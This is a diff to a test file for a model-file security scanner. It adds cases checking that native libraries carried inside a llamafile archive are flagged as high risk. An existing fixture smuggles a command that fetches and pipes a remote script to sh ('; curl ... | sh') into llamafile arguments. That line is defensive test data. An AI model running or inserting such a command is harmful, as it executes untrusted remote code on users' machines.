@@ -1,4 +1,4 @@
-import { assembleGguf, assembleZip, EXECUTABLE_HEADS } from '@sentrascan/testkit';
+import { assembleElf, assembleGguf, assemblePe, assembleZip, EXECUTABLE_HEADS } from '@sentrascan/testkit';
 import { describe, expect, it } from 'vitest';
 import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
 
@@ -64,4 +64,20 @@ it('judges commands in the header and in the arguments', () => {
   expect(scanBytes(llamafile({ script }), 'model.llamafile').worst).toBe('high');
   const args = '-m\nmodel.gguf\n; curl -s http://192.0.2.1/a | sh\n';
   expect(scanBytes(llamafile({ args }), 'model.llamafile').worst).toBe('medium');
+});
+
+it.each([
+  ['ggml-cuda.so', assembleElf({ type: 3 })],
+  ['lib/libop.so.1.2', assembleElf({ type: 3, version: 0 })],
+  ['ggml-rocm.dll', assemblePe()],
+])('takes a library among its members for a program that is carried: %s', (name, data) => {
+  const zip = assembleZip({
+    entries: [
+      { name: 'model.gguf', data: assembleGguf() },
+      { name: '.args', data: '-m\nmodel.gguf\n' },
+      { name, data, method: 8 },
+    ],
+  });
+  const scanned = scanBytes(Buffer.concat([llamafile().subarray(0, 4096), zip]), 'model.llamafile');
+  expect(scanned).toMatchObject({ worst: 'high', gaps: [] });
 });
